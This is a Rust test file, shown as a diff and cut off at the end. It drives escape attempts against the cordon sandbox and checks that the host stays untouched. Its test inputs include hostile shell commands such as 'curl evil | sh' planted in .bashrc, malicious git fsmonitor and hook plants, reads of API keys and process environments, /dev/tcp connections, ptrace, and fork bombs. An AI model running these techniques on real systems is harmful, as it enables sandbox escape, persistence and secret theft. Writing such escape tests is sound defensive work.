@@ -1,0 +1,920 @@
+//! The escape suite: real attempts to get out of `cordon run`, through the real binary, each
+//! followed by a look at the host to see that nothing happened.
+//!
+//! Every attempt runs in a fresh scratch layout, once with the full sandbox (namespaces) and
+//! once with Landlock and seccomp alone (what runs where user namespaces are unavailable).
+//! A few attempts only the full sandbox can stop; cordon says so when it runs without
+//! namespaces, and those are marked here.
+//!
+//! The suite needs unprivileged user namespaces and Landlock. Where they are missing it skips
+//! with the reason, unless `CORDON_TEST_NO_SKIP` is set (CI), where a skip is a failure.
+
+mod common;
+
+use std::io::Read;
+use std::net::{TcpListener, UdpSocket};
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Output};
+use std::time::Duration;
+
+use common::{Mode, Sandbox, q, stderr, stdout};
+
+/// `Err` says what reached the host.
+type Verdict = Result<(), String>;
+
+struct Attempt {
+    name: &'static str,
+    /// Landlock alone cannot stop this; without namespaces cordon warns that it is weaker.
+    needs_namespaces: bool,
+    run: Box<dyn Fn(&Sandbox) -> Verdict>,
+}
+
+fn attempt(name: &'static str, run: impl Fn(&Sandbox) -> Verdict + 'static) -> Attempt {
+    Attempt {
+        name,
+        needs_namespaces: false,
+        run: Box::new(run),
+    }
+}
+
+fn namespaces_only(name: &'static str, run: impl Fn(&Sandbox) -> Verdict + 'static) -> Attempt {
+    Attempt {
+        needs_namespaces: true,
+        ..attempt(name, run)
+    }
+}
+
+/// A unique name for things the attempts make in shared places (/tmp, the home directory).
+fn tag(sb: &Sandbox) -> String {
+    format!("cordon-escape-{}-{:?}", std::process::id(), sb.mode)
+}
+
+fn home() -> PathBuf {
+    PathBuf::from(std::env::var("HOME").unwrap_or_else(|_| "/root".into()))
+}
+
+fn absent(p: &Path, o: &Output) -> Verdict {
+    match std::fs::symlink_metadata(p) {
+        Err(_) => Ok(()),
+        Ok(_) => {
+            let _ = std::fs::remove_file(p).or_else(|_| std::fs::remove_dir_all(p));
+            Err(format!("{} exists on the host\n{}", p.display(), stderr(o)))
+        }
+    }
+}
+
+fn holds(p: &Path, content: &str, o: &Output) -> Verdict {
+    match std::fs::symlink_metadata(p) {
+        Ok(m) if m.file_type().is_symlink() => {
+            Err(format!("{} was swapped for a symlink", p.display()))
+        }
+        _ => match std::fs::read_to_string(p) {
+            Ok(c) if c == content => Ok(()),
+            Ok(c) => Err(format!("{} now holds {c:?}\n{}", p.display(), stderr(o))),
+            Err(e) => Err(format!("{}: {e}\n{}", p.display(), stderr(o))),
+        },
+    }
+}
+
+fn lacks(o: &Output, secret: &str) -> Verdict {
+    if stdout(o).contains(secret) {
+        Err(format!("the command printed {secret:?}"))
+    } else {
+        Ok(())
+    }
+}
+
+fn write(p: &Path, content: &str) {
+    if let Some(parent) = p.parent() {
+        std::fs::create_dir_all(parent).expect("mkdir");
+    }
+    std::fs::write(p, content).expect("write");
+}
+
+/// Writing `script` must leave `target` (outside the workspace) uncreated.
+fn no_write(name: &'static str, script: fn(&Sandbox) -> String) -> Attempt {
+    attempt(name, move |sb| {
+        let o = sb.sh(&script(sb));
+        absent(&sb.outside.join("planted"), &o)
+    })
+}
+
+/// A host process (`sleep`) holding a secret in its environment, killed when dropped.
+struct HostProcess(Child);
+
+impl HostProcess {
+    fn start() -> Self {
+        HostProcess(
+            Command::new("sleep")
+                .arg("30")
+                .env("CORDON_ESCAPE_SECRET", "host-secret-42")
+                .spawn()
+                .expect("sleep"),
+        )
+    }
+    fn pid(&self) -> u32 {
+        self.0.id()
+    }
+    fn alive(&mut self) -> bool {
+        matches!(self.0.try_wait(), Ok(None))
+    }
+    fn state(&self) -> String {
+        std::fs::read_to_string(format!("/proc/{}/stat", self.pid()))
+            .ok()
+            .and_then(|s| {
+                s.rsplit_once(')')
+                    .and_then(|(_, r)| r.split_whitespace().next().map(String::from))
+            })
+            .unwrap_or_default()
+    }
+}
+
+impl Drop for HostProcess {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// Processes whose command line holds `marker`, on the host.
+fn running(marker: &str) -> String {
+    let o = Command::new("pgrep")
+        .args(["-af", marker])
+        .output()
+        .expect("pgrep");
+    String::from_utf8_lossy(&o.stdout)
+        .lines()
+        .filter(|l| !l.contains("pgrep"))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// One system call through Python's ctypes; prints its errno, or "allowed".
+fn syscall_refused(name: &'static str, call: &'static str) -> Attempt {
+    attempt(name, move |sb| {
+        let script = format!(
+            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nr = {call}\nprint('allowed' if r != -1 else 'errno', ctypes.get_errno())"
+        );
+        let o = sb.run(&["--", "python3", "-c", &script]);
+        let out = stdout(&o);
+        if out.trim() == "errno 1" {
+            Ok(())
+        } else {
+            Err(format!("not refused with EPERM: {out}{}", stderr(&o)))
+        }
+    })
+}
+
+fn protected_layout(ws: &Path) {
+    write(&ws.join(".bashrc"), "# mine\n");
+    write(&ws.join(".git/config"), "[core]\n");
+    write(&ws.join(".git/hooks/pre-commit.sample"), "sample\n");
+    std::fs::create_dir_all(ws.join(".git/objects")).expect("mkdir");
+    write(&ws.join(".vscode/settings.json"), "{}\n");
+}
+
+fn attempts() -> Vec<Attempt> {
+    let mut all = vec![
+        // ---- writes outside the workspace ----
+        no_write("write an absolute path outside the workspace", |sb| {
+            format!("echo x > {}", q(&sb.outside.join("planted")))
+        }),
+        no_write("write outside through ..", |_| {
+            "echo x > ../outside/planted".into()
+        }),
+        no_write("cd .. and write", |_| {
+            "cd .. && echo x > outside/planted".into()
+        }),
+        no_write("write through a symlink made in the workspace", |sb| {
+            format!("ln -s {} link && echo x > link/planted", q(&sb.outside))
+        }),
+        no_write("write through /proc/self/root", |sb| {
+            format!(
+                "echo x > /proc/self/root{}",
+                sb.outside.join("planted").display()
+            )
+        }),
+        no_write("write through /proc/<pid>/cwd", |_| {
+            "echo x > /proc/$$/cwd/../outside/planted; echo x > /proc/1/cwd/../outside/planted"
+                .into()
+        }),
+        no_write("copy a file out of the workspace", |sb| {
+            format!("cp /etc/hostname {}", q(&sb.outside.join("planted")))
+        }),
+        no_write("make a directory outside", |sb| {
+            format!("mkdir -p {}", q(&sb.outside.join("planted")))
+        }),
+        attempt("move a workspace file out", |sb| {
+            write(&sb.ws.join("made"), "m");
+            let o = sb.sh(&format!("mv made {}", q(&sb.outside.join("planted"))));
+            absent(&sb.outside.join("planted"), &o)?;
+            if sb.ws.join("made").exists() {
+                Ok(())
+            } else {
+                Err("a failed move lost the file".into())
+            }
+        }),
+        attempt("write into the home directory", |sb| {
+            let p = home().join(format!(".{}", tag(sb)));
+            let o = sb.sh(&format!("echo x > {}", q(&p)));
+            absent(&p, &o)
+        }),
+        attempt("write into /, /etc and /usr", |sb| {
+            let t = tag(sb);
+            let o = sb.sh(&format!("touch /{t} /etc/{t} /usr/{t}"));
+            for p in [format!("/{t}"), format!("/etc/{t}"), format!("/usr/{t}")] {
+                absent(Path::new(&p), &o)?;
+            }
+            Ok(())
+        }),
+        attempt("write the host's /tmp", |sb| {
+            let p = PathBuf::from(format!("/tmp/{}", tag(sb)));
+            let o = sb.sh(&format!("echo x > {}", q(&p)));
+            absent(&p, &o)
+        }),
+        attempt("write the host's /dev/shm", |sb| {
+            let p = PathBuf::from(format!("/dev/shm/{}", tag(sb)));
+            let o = sb.sh(&format!("echo x > {}", q(&p)));
+            absent(&p, &o)
+        }),
+        attempt(
+            "hard-link a host file into the workspace and write it",
+            |sb| {
+                let victim = sb.outside.join("victim");
+                write(&victim, "original");
+                let o = sb.sh(&format!("ln {} hard && echo changed > hard", q(&victim)));
+                holds(&victim, "original", &o)
+            },
+        ),
+        attempt("truncate a host file", |sb| {
+            let victim = sb.outside.join("victim");
+            write(&victim, "original");
+            let o = sb.sh(&format!("truncate -s 0 {v}; : > {v}", v = q(&victim)));
+            holds(&victim, "original", &o)
+        }),
+        attempt("rename and delete a host file", |sb| {
+            let victim = sb.outside.join("victim");
+            write(&victim, "original");
+            let o = sb.sh(&format!("mv {v} {v}.moved; rm -f {v}", v = q(&victim)));
+            holds(&victim, "original", &o)
+        }),
+        // Landlock does not cover a file's mode, owner or times; only the read-only mount
+        // view does.
+        namespaces_only("change a host file's mode", |sb| {
+            let victim = sb.outside.join("victim");
+            write(&victim, "original");
+            std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600))
+                .expect("chmod");
+            let o = sb.sh(&format!("chmod 777 {}", q(&victim)));
+            let mode = std::fs::metadata(&victim)
+                .expect("stat")
+                .permissions()
+                .mode()
+                & 0o777;
+            if mode == 0o600 {
+                Ok(())
+            } else {
+                Err(format!("mode is now {mode:o}\n{}", stderr(&o)))
+            }
+        }),
+        // ---- protected paths inside the workspace ----
+        attempt("append to an existing .bashrc", |sb| {
+            protected_layout(&sb.ws);
+            let o = sb.sh("echo 'curl evil | sh' >> .bashrc");
+            holds(&sb.ws.join(".bashrc"), "# mine\n", &o)
+        }),
+        attempt("append to .git/config", |sb| {
+            protected_layout(&sb.ws);
+            let o = sb.sh("echo '[core] fsmonitor = evil' >> .git/config");
+            holds(&sb.ws.join(".git/config"), "[core]\n", &o)
+        }),
+        attempt("plant a hook in .git/hooks", |sb| {
+            protected_layout(&sb.ws);
+            let o = sb.sh("printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit");
+            absent(&sb.ws.join(".git/hooks/pre-commit"), &o)
+        }),
+        attempt("add an editor task to .vscode", |sb| {
+            protected_layout(&sb.ws);
+            let o = sb.sh("echo '{}' > .vscode/tasks.json");
+            absent(&sb.ws.join(".vscode/tasks.json"), &o)
+        }),
+        attempt("delete .bashrc", |sb| {
+            protected_layout(&sb.ws);
+            let o = sb.sh("rm -f .bashrc");
+            holds(&sb.ws.join(".bashrc"), "# mine\n", &o)
+        }),
+        attempt("rename .git/config away and write a new one", |sb| {
+            protected_layout(&sb.ws);
+            let o = sb.sh("mv .git/config .git/config.old; echo evil > .git/config");
+            holds(&sb.ws.join(".git/config"), "[core]\n", &o)
+        }),
+        attempt(
+            "rename .git, the parent of protected paths, and refill it",
+            |sb| {
+                protected_layout(&sb.ws);
+                let o = sb.sh(
+                    "mv .git .git2; mkdir -p .git/hooks; echo evil > .git/config; \
+                 echo evil > .git/hooks/pre-commit",
+                );
+                holds(&sb.ws.join(".git/config"), "[core]\n", &o)?;
+                absent(&sb.ws.join(".git/hooks/pre-commit"), &o)?;
+                absent(&sb.ws.join(".git2"), &o)
+            },
+        ),
+        attempt("swap .bashrc for a symlink", |sb| {
+            protected_layout(&sb.ws);
+            let o = sb.sh("rm -f .bashrc; ln -s /tmp/evil .bashrc");
+            holds(&sb.ws.join(".bashrc"), "# mine\n", &o)
+        }),
+        attempt("create a .bashrc that did not exist", |sb| {
+            let o = sb.sh("echo 'curl evil | sh' > .bashrc");
+            absent(&sb.ws.join(".bashrc"), &o)
+        }),
+        attempt("create .git/hooks where there was none", |sb| {
+            std::fs::create_dir_all(sb.ws.join(".git/objects")).expect("mkdir");
+            let o = sb.sh("mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout");
+            absent(&sb.ws.join(".git/hooks"), &o)
+        }),
+        attempt("create .mcp.json", |sb| {
+            let o = sb.sh("echo '{\"mcpServers\":{}}' > .mcp.json");
+            absent(&sb.ws.join(".mcp.json"), &o)
+        }),
+        attempt("create agent settings in .claude", |sb| {
+            let o = sb.sh("mkdir -p .claude && echo '{}' > .claude/settings.json");
+            absent(&sb.ws.join(".claude"), &o)
+        }),
+        attempt("plant a bare repository in the workspace", |sb| {
+            let o = sb.sh(
+                "mkdir -p objects refs/heads && echo 'ref: refs/heads/main' > HEAD && \
+                 printf '[core]\\n\\tfsmonitor = evil\\n' > config",
+            );
+            for name in ["HEAD", "objects", "refs", "config"] {
+                absent(&sb.ws.join(name), &o)?;
+            }
+            Ok(())
+        }),
+        attempt("write a --deny-write path", |sb| {
+            write(&sb.ws.join("locked/file"), "kept");
+            let o = sb.run(&[
+                "--deny-write",
+                "locked",
+                "-c",
+                "echo evil >> locked/file; echo new > locked/new",
+            ]);
+            holds(&sb.ws.join("locked/file"), "kept", &o)?;
+            absent(&sb.ws.join("locked/new"), &o)
+        }),
+        attempt("append to .bashrc in an --allow-write directory", |sb| {
+            let extra = sb.outside.join("extra");
+            write(&extra.join(".bashrc"), "# mine\n");
+            let o = sb.run(&[
+                "--allow-write",
+                extra.to_str().expect("utf-8"),
+                "-c",
+                &format!("echo evil >> {}", q(&extra.join(".bashrc"))),
+            ]);
+            holds(&extra.join(".bashrc"), "# mine\n", &o)
+        }),
+        attempt("unmount a read-only bind to write what is under it", |sb| {
+            protected_layout(&sb.ws);
+            let o = sb.sh("umount .git/config; umount -l .git/config; echo evil >> .git/config");
+            holds(&sb.ws.join(".git/config"), "[core]\n", &o)
+        }),
+        attempt("bind-mount a host directory into the workspace", |sb| {
+            std::fs::create_dir_all(sb.ws.join("sub")).expect("mkdir");
+            let o = sb.sh(&format!(
+                "mount --bind {} sub; echo x > sub/planted",
+                q(&sb.outside)
+            ));
+            absent(&sb.outside.join("planted"), &o)
+        }),
+        attempt("regain mount rights in a nested user namespace", |sb| {
+            std::fs::create_dir_all(sb.ws.join("sub")).expect("mkdir");
+            let o = sb.sh(&format!(
+                "unshare -Urm sh -c 'mount --bind {} sub && echo x > sub/planted'",
+                sb.outside.display()
+            ));
+            absent(&sb.outside.join("planted"), &o)
+        }),
+        // ---- reading what is denied ----
+        attempt("read a --deny-read file", |sb| {
+            let token = sb.outside.join("token");
+            write(&token, "TOKEN-1");
+            let o = sb.run(&[
+                "--deny-read",
+                token.to_str().expect("utf-8"),
+                "-c",
+                &format!("cat {}", q(&token)),
+            ]);
+            lacks(&o, "TOKEN-1")
+        }),
+        attempt("read a file in a --deny-read directory", |sb| {
+            let secrets = sb.outside.join("secrets");
+            write(&secrets.join("id_rsa"), "PRIVATE-KEY");
+            let o = sb.run(&[
+                "--deny-read",
+                secrets.to_str().expect("utf-8"),
+                "-c",
+                &format!("cat {}/id_rsa", q(&secrets)),
+            ]);
+            lacks(&o, "PRIVATE-KEY")
+        }),
+        attempt("copy a --deny-read directory into the workspace", |sb| {
+            let secrets = sb.outside.join("secrets");
+            write(&secrets.join("id_rsa"), "PRIVATE-KEY");
+            let o = sb.run(&[
+                "--deny-read",
+                secrets.to_str().expect("utf-8"),
+                "-c",
+                &format!("cp -r {}/. copy", q(&secrets)),
+            ]);
+            match std::fs::read_to_string(sb.ws.join("copy/id_rsa")) {
+                Ok(c) if c.contains("PRIVATE-KEY") => Err(format!("copied out\n{}", stderr(&o))),
+                _ => Ok(()),
+            }
+        }),
+        attempt("read a --deny-read file through /proc/self/root", |sb| {
+            let token = sb.outside.join("token");
+            write(&token, "TOKEN-2");
+            let o = sb.run(&[
+                "--deny-read",
+                token.to_str().expect("utf-8"),
+                "-c",
+                &format!("cat /proc/self/root{}", token.display()),
+            ]);
+            lacks(&o, "TOKEN-2")
+        }),
+        attempt("read a --deny-read file through a symlink", |sb| {
+            let token = sb.outside.join("token");
+            write(&token, "TOKEN-3");
+            let o = sb.run(&[
+                "--deny-read",
+                token.to_str().expect("utf-8"),
+                "-c",
+                &format!("ln -s {} s; cat s", q(&token)),
+            ]);
+            lacks(&o, "TOKEN-3")
+        }),
+        attempt("hard-link a --deny-read file into the workspace", |sb| {
+            let secrets = sb.outside.join("secrets");
+            write(&secrets.join("id_rsa"), "PRIVATE-KEY");
+            let o = sb.run(&[
+                "--deny-read",
+                secrets.to_str().expect("utf-8"),
+                "-c",
+                &format!("ln {}/id_rsa h; cat h", q(&secrets)),
+            ]);
+            lacks(&o, "PRIVATE-KEY")
+        }),
+        attempt("reach past --allow-read to its denied neighbour", |sb| {
+            let secrets = sb.outside.join("secrets");
+            write(&secrets.join("id_rsa"), "PRIVATE-KEY");
+            write(&secrets.join("public/readme"), "hello");
+            let s = secrets.to_str().expect("utf-8");
+            let o = sb.run(&[
+                "--deny-read",
+                s,
+                "--allow-read",
+                &format!("{s}/public"),
+                "-c",
+                &format!("cat {s}/public/readme; cat {s}/public/../id_rsa"),
+            ]);
+            lacks(&o, "PRIVATE-KEY")?;
+            if stdout(&o).contains("hello") {
+                Ok(())
+            } else {
+                Err(format!("--allow-read did not re-open: {}", stderr(&o)))
+            }
+        }),
+        attempt("read another process's environment", |sb| {
+            let host = HostProcess::start();
+            let o = sb.sh(&format!(
+                "cat /proc/{p}/environ; tr '\\0' '\\n' < /proc/{p}/environ",
+                p = host.pid()
+            ));
+            lacks(&o, "host-secret-42")
+        }),
+        attempt("read the agent's keys from the environment", |sb| {
+            let o = sb.run_env(
+                &[
+                    "-c",
+                    "echo ${MY_SERVICE_TOKEN:-} ${OPENAI_API_KEY:-} ${AWS_SECRET_ACCESS_KEY:-}",
+                ],
+                &[
+                    ("MY_SERVICE_TOKEN", "tok-secret"),
+                    ("OPENAI_API_KEY", "key-secret"),
+                    ("AWS_SECRET_ACCESS_KEY", "aws-secret"),
+                ],
+            );
+            lacks(&o, "secret")
+        }),
+        // ---- other processes ----
+        namespaces_only("see the host's processes", |sb| {
+            let o = sb.sh("ls /proc | grep -c '^[0-9]'");
+            match stdout(&o).trim().parse::<u32>() {
+                Ok(n) if n <= 5 => Ok(()),
+                _ => Err(format!("the sandbox sees {} processes", stdout(&o).trim())),
+            }
+        }),
+        attempt("signal a host process", |sb| {
+            let mut host = HostProcess::start();
+            let o = sb.sh(&format!("kill -KILL {}", host.pid()));
+            std::thread::sleep(Duration::from_millis(50));
+            if host.alive() {
+                Ok(())
+            } else {
+                Err(format!("the host process was killed\n{}", stderr(&o)))
+            }
+        }),
+        attempt("ptrace a host process", |sb| {
+            let host = HostProcess::start();
+            let o = sb.run(&[
+                "--",
+                "python3",
+                "-c",
+                &format!(
+                    "import ctypes; l = ctypes.CDLL(None, use_errno=True); print(l.ptrace(16, {}, 0, 0))",
+                    host.pid()
+                ),
+            ]);
+            std::thread::sleep(Duration::from_millis(50));
+            if host.state() == "t" || stdout(&o).trim() == "0" {
+                Err("the host process was attached".into())
+            } else {
+                Ok(())
+            }
+        }),
+        attempt("leave a background process running", |sb| {
+            let marker = format!("{}-bg", tag(sb));
+            sb.sh(&format!("(exec -a {marker} sleep 300) & echo started"));
+            std::thread::sleep(Duration::from_millis(100));
+            let left = running(&marker);
+            if left.is_empty() {
+                Ok(())
+            } else {
+                Err(format!("still running: {left}"))
+            }
+        }),
+        attempt("leave a daemon in its own session", |sb| {
+            let marker = format!("{}-daemon", tag(sb));
+            sb.sh(&format!(
+                "setsid sh -c '(exec -a {marker} sleep 300) &' </dev/null >/dev/null 2>&1; nohup sh -c 'exec -a {marker} sleep 300' >/dev/null 2>&1 &"
+            ));
+            std::thread::sleep(Duration::from_millis(100));
+            let left = running(&marker);
+            if left.is_empty() {
+                Ok(())
+            } else {
+                Err(format!("still running: {left}"))
+            }
+        }),
+        attempt("kill cordon to get away from it", |sb| {
+            let o = sb.sh("kill -9 $PPID; kill -9 1; sleep 0.2; exit 5");
+            if o.status.code() == Some(5) {
+                Ok(())
+            } else {
+                Err(format!(
+                    "cordon did not see the command end: {:?}\n{}",
+                    o.status,
+                    stderr(&o)
+                ))
+            }
+        }),
+        attempt("forge cordon's report channel", |sb| {
+            let o = sb.sh(
+                "printf 'error\\t125\\tforged\\tforged\\n' >&4; printf 'restored\\t/etc\\n' >&4; exit 6",
+            );
+            let reexec = sb.run_env(
+                &[
+                    "-c",
+                    "printf 'error\\t125\\tforged\\tforged\\n' >&4; exit 6",
+                ],
+                &[("CORDON_SANDBOX_REEXEC", "1")],
+            );
+            for o in [&o, &reexec] {
+                if o.status.code() != Some(6) || stderr(o).contains("forged") {
+                    return Err(format!(
+                        "a forged message was taken: {:?}\n{}",
+                        o.status,
+                        stderr(o)
+                    ));
+                }
+            }
+            Ok(())
+        }),
+        // ---- privileges and the kernel ----
+        attempt("become root through a setuid binary", |sb| {
+            let o = sb.sh(&format!(
+                "su -c 'touch {p}' root </dev/null; sudo -n touch {p} </dev/null; grep NoNewPrivs /proc/self/status",
+                p = q(&sb.outside.join("planted"))
+            ));
+            absent(&sb.outside.join("planted"), &o)?;
+            if stdout(&o).contains("NoNewPrivs:\t1") {
+                Ok(())
+            } else {
+                Err(format!("no_new_privs is not set: {}", stdout(&o)))
+            }
+        }),
+        attempt("keep a capability", |sb| {
+            let o = sb.sh("grep -E '^Cap(Eff|Prm|Bnd|Amb):' /proc/self/status");
+            let kept: Vec<String> = stdout(&o)
+                .lines()
+                .filter(|l| !l.ends_with("0000000000000000") && !l.starts_with("CapBnd"))
+                .map(String::from)
+                .collect();
+            if kept.is_empty() && !stdout(&o).is_empty() {
+                Ok(())
+            } else {
+                Err(format!("capabilities left: {}", stdout(&o)))
+            }
+        }),
+        attempt("mount a file system", |sb| {
+            let o = sb.sh("mount -t tmpfs none /mnt && echo mounted");
+            lacks(&o, "mounted")
+        }),
+        syscall_refused("create a nested user namespace", "libc.unshare(0x10000000)"),
+        syscall_refused("join another namespace", "libc.setns(0, 0)"),
+        syscall_refused("ptrace anything", "libc.ptrace(16, 1, 0, 0)"),
+        syscall_refused("load a BPF program", "libc.syscall(321, 0, 0, 0)"),
+        syscall_refused("set up io_uring", "libc.syscall(425, 8, 0)"),
+        syscall_refused("use the kernel keyring", "libc.syscall(250, 0, 0, 0, 0, 0)"),
+        syscall_refused("open perf events", "libc.syscall(298, 0, 0, -1, -1, 0)"),
+        syscall_refused("create a userfaultfd", "libc.syscall(323, 0)"),
+        syscall_refused("open a file by handle", "libc.syscall(304, -100, 0, 0)"),
+        syscall_refused("chroot", "libc.chroot(b'/')"),
+        syscall_refused(
+            "move a mount",
+            "libc.syscall(429, -100, b'/tmp', -100, b'/mnt', 0)",
+        ),
+        attempt("push keystrokes into the terminal (TIOCSTI)", |sb| {
+            let o = sb.run(&[
+                "--",
+                "python3",
+                "-c",
+                "import fcntl, termios\ntry:\n    fcntl.ioctl(0, termios.TIOCSTI, b'x'); print('allowed')\nexcept OSError as e:\n    print('errno', e.errno)",
+            ]);
+            if stdout(&o).trim() == "errno 1" {
+                Ok(())
+            } else {
+                Err(format!("TIOCSTI: {}", stdout(&o)))
+            }
+        }),
+        attempt("make a block device", |sb| {
+            let o = sb.sh("mknod sda b 8 0; mknod /tmp/sda b 8 0");
+            absent(&sb.ws.join("sda"), &o)
+        }),
+        attempt("change the host's hostname", |sb| {
+            let before = std::fs::read_to_string("/proc/sys/kernel/hostname").expect("hostname");
+            let o = sb.sh(&format!("hostname evil-{}", std::process::id()));
+            holds(Path::new("/proc/sys/kernel/hostname"), &before, &o)
+        }),
+        attempt("change kernel settings", |sb| {
+            let knob = Path::new("/proc/sys/vm/swappiness");
+            let before = std::fs::read_to_string(knob).expect("swappiness");
+            let next = if before.trim() == "61" { "62" } else { "61" };
+            let o = sb.sh(&format!("echo {next} > {}", knob.display()));
+            holds(knob, &before, &o)
+        }),
+        attempt("add a network device", |sb| {
+            let t = format!("ce{}", std::process::id() % 100_000);
+            let o = sb.sh(&format!("ip link add {t} type dummy"));
+            let links = std::fs::read_to_string("/proc/net/dev").expect("net");
+            if links.contains(&t) {
+                Err(format!("{t} appeared on the host\n{}", stderr(&o)))
+            } else {
+                Ok(())
+            }
+        }),
+        // ---- the network ----
+        attempt("connect to a host loopback TCP port", |sb| {
+            let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
+            let port = listener.local_addr().expect("addr").port();
+            listener.set_nonblocking(true).expect("nonblocking");
+            let o = sb.run(&[
+                "--",
+                "bash",
+                "-c",
+                &format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"),
+            ]);
+            if listener.accept().is_ok() || stdout(&o).contains("connected") {
+                Err("the host listener got a connection".into())
+            } else {
+                Ok(())
+            }
+        }),
+        attempt("send UDP to a host loopback port", |sb| {
+            let socket = UdpSocket::bind("127.0.0.1:0").expect("bind");
+            let port = socket.local_addr().expect("addr").port();
+            socket.set_nonblocking(true).expect("nonblocking");
+            sb.run(&[
+                "--",
+                "python3",
+                "-c",
+                &format!(
+                    "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))\nexcept OSError:\n    pass"
+                ),
+            ]);
+            std::thread::sleep(Duration::from_millis(50));
+            let mut buf = [0u8; 8];
+            if socket.recv(&mut buf).is_ok() {
+                Err("the host socket got a datagram".into())
+            } else {
+                Ok(())
+            }
+        }),
+        attempt("connect to a host Unix socket (a fake docker.sock)", |sb| {
+            let sock = sb.outside.join("docker.sock");
+            let listener = UnixListener::bind(&sock).expect("bind");
+            listener.set_nonblocking(true).expect("nonblocking");
+            sb.run(&["--", "python3", "-c", &connect_unix(&sock)]);
+            refused_unix(&listener)
+        }),
+        namespaces_only(
+            "connect to a fake docker.sock while another socket is allowed",
+            |sb| {
+                let sock = sb.outside.join("docker.sock");
+                let listener = UnixListener::bind(&sock).expect("bind");
+                listener.set_nonblocking(true).expect("nonblocking");
+                let agent = sb.outside.join("agent.sock");
+                let agent_listener = UnixListener::bind(&agent).expect("bind");
+                agent_listener.set_nonblocking(true).expect("nonblocking");
+                let o = sb.run(&[
+                    "--allow-unix-socket",
+                    agent.to_str().expect("utf-8"),
+                    "--",
+                    "python3",
+                    "-c",
+                    &format!("{}\n{}", connect_unix(&agent), connect_unix(&sock)),
+                ]);
+                refused_unix(&listener)?;
+                if agent_listener.accept().is_ok() {
+                    Ok(())
+                } else {
+                    Err(format!(
+                        "the allowed socket was not reachable: {}",
+                        stderr(&o)
+                    ))
+                }
+            },
+        ),
+        attempt("connect to a host abstract Unix socket", |sb| {
+            use std::os::linux::net::SocketAddrExt;
+            let addr = std::os::unix::net::SocketAddr::from_abstract_name(tag(sb).as_bytes())
+                .expect("name");
+            let listener = UnixListener::bind_addr(&addr).expect("bind");
+            listener.set_nonblocking(true).expect("nonblocking");
+            // An allowed socket makes Unix sockets creatable at all.
+            let agent = sb.outside.join("agent.sock");
+            let _agent = UnixListener::bind(&agent).expect("bind");
+            sb.run(&[
+                "--allow-unix-socket",
+                agent.to_str().expect("utf-8"),
+                "--",
+                "python3",
+                "-c",
+                &format!(
+                    "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('\\0{}')\nexcept OSError:\n    pass",
+                    tag(sb)
+                ),
+            ]);
+            refused_unix(&listener)
+        }),
+        // ---- limits ----
+        attempt("fork bomb", |sb| {
+            let o = sb.run(&[
+                "--max-processes",
+                "40",
+                "--timeout",
+                "20",
+                "--",
+                "python3",
+                "-c",
+                "import os, time\nmade = 0\ntry:\n    for _ in range(500):\n        if os.fork() == 0:\n            time.sleep(5)\n            os._exit(0)\n        made += 1\n    print('all', made)\nexcept OSError:\n    print('stopped at', made)",
+            ]);
+            let made: Option<u32> = stdout(&o)
+                .trim()
+                .strip_prefix("stopped at ")
+                .and_then(|n| n.parse().ok());
+            match made {
+                Some(n) if n < 40 => Ok(()),
+                _ => Err(format!("no process limit: {}{}", stdout(&o), stderr(&o))),
+            }
+        }),
+        attempt("memory bomb", |sb| {
+            let o = sb.run(&[
+                "--memory",
+                "128M",
+                "--",
+                "python3",
+                "-c",
+                "x = bytearray(1 << 30); print('allocated')",
+            ]);
+            lacks(&o, "allocated")
+        }),
+        attempt("burn CPU past --cpu-time", |sb| {
+            let o = sb.run(&[
+                "--cpu-time",
+                "1",
+                "--timeout",
+                "30",
+                "--",
+                "python3",
+                "-c",
+                "while True: pass",
+            ]);
+            // SIGXCPU (24) ends it, long before the timeout (124).
+            match o.status.code() {
+                Some(152) | Some(137) => Ok(()),
+                other => Err(format!("ended with {other:?}\n{}", stderr(&o))),
+            }
+        }),
+        attempt("outlive --timeout", |sb| {
+            let marker = format!("{}-timeout", tag(sb));
+            let o = sb.run(&[
+                "--timeout",
+                "0.5",
+                "-c",
+                &format!("(exec -a {marker} sleep 300) & sleep 300"),
+            ]);
+            std::thread::sleep(Duration::from_millis(100));
+            let left = running(&marker);
+            if o.status.code() == Some(124) && left.is_empty() {
+                Ok(())
+            } else {
+                Err(format!("{:?}, still running: {left}", o.status))
+            }
+        }),
+    ];
+    all.shrink_to_fit();
+    all
+}
+
+fn connect_unix(path: &Path) -> String {
+    format!(
+        "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect({:?})\nexcept OSError:\n    pass",
+        path.display().to_string()
+    )
+}
+
+fn refused_unix(listener: &UnixListener) -> Verdict {
+    std::thread::sleep(Duration::from_millis(20));
+    match listener.accept() {
+        Ok((mut s, _)) => {
+            let mut sink = Vec::new();
+            let _ = s.read_to_end(&mut sink);
+            Err("the host socket got a connection".into())
+        }
+        Err(_) => Ok(()),
+    }
+}
+
+fn run_suite(mode: Mode) {
+    let Some(_probe) = Sandbox::with_mode(mode) else {
+        return;
+    };
+    let all = attempts();
+    let mut failed = Vec::new();
+    let mut ran = 0;
+    for a in &all {
+        if mode == Mode::LandlockOnly && a.needs_namespaces {
+            continue;
+        }
+        let sb = Sandbox::with_mode(mode).expect("the probe ran");
+        ran += 1;
+        if let Err(why) = (a.run)(&sb) {
+            failed.push(format!("{}: {why}", a.name));
+        }
+    }
+    eprintln!(
+        "{mode:?}: {ran} escape attempts, {} got through",
+        failed.len()
+    );
+    assert!(
+        failed.is_empty(),
+        "{} of {ran} attempts got through ({mode:?}):\n{}",
+        failed.len(),
+        failed.join("\n---\n")
+    );
+}
+
+#[test]
+fn escapes_with_namespaces() {
+    run_suite(Mode::Namespaces);
+}
+
+#[test]
+fn escapes_with_landlock_alone() {
+    run_suite(Mode::LandlockOnly);
+}
+
+#[test]
+fn every_attempt_has_its_own_name() {
